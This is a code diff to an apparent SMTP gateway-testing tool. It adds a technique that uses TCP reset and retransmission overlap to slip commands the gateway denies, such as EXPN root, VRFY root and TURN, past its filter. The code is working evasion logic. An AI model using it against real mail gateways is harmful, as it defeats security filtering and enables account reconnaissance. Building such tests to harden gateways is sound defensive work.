@@ -40,7 +40,7 @@ def lines(length: int) -> bytes:
     return (b"NOOP\r\n" * (length // 6 + 1))[:length] if length % 6 != 1 else b"NOOP \r\n" + lines(length - 7)
 
 
-def speak_again(attack: Attack, new: RawTcp, acknowledged: int, decided: int) -> None:
+def speak_again(attack: Attack, new: RawTcp, acknowledged: int, decided: int, command: bytes = EVIL) -> None:
     """Over the places the gateway has decided already, and behind them a forbidden command."""
     if not new.established:
         return
@@ -53,8 +53,12 @@ def speak_again(attack: Attack, new: RawTcp, acknowledged: int, decided: int) ->
                 attack.wait(0.01)
     new.put(b"\r\n", decided)
     attack.wait(0.03)  # some servers hang up on who does not wait
-    new.put(EVIL, decided + 2)
+    new.put(command, decided + 2)
     attack.wait(0.05)
+
+
+def denied(attack: Attack, line: bytes) -> bool:
+    return line.split()[0].decode() not in attack.policy.commands.allow
 
 
 def carried(**fields: Any) -> Refused:
@@ -270,6 +274,19 @@ def again_exact(attack: Attack) -> None:
     old = attack.text()
     old.stray(flags=RST)
     speak_again(attack, attack.again(old), old.here, old.here)
+
+
+@technique("again-executed", "as again-md5, with what servers carry out: EXPN, EHLO, VRFY, whichever is denied")
+def again_executed(attack: Attack) -> None:
+    attack.press()
+    old = separated(carried(options=[MD5]))(attack)
+    old.stray(flags=RST)
+    verbs = [verb for verb in (b"EXPN root", b"EHLO x", b"VRFY root", b"TURN") if denied(attack, verb)]
+    new = attack.again(old)
+    speak_again(attack, new, old.here, old.here + len(APART), verbs[0] + b"\r\n")
+    for verb in verbs[1:] if new.established else ():
+        new.put(verb + b"\r\n")
+        attack.wait(0.05)
 
 
 @technique("again-keywords", "as again-md5, for EHLO's keywords and the greeting behind what was decided")
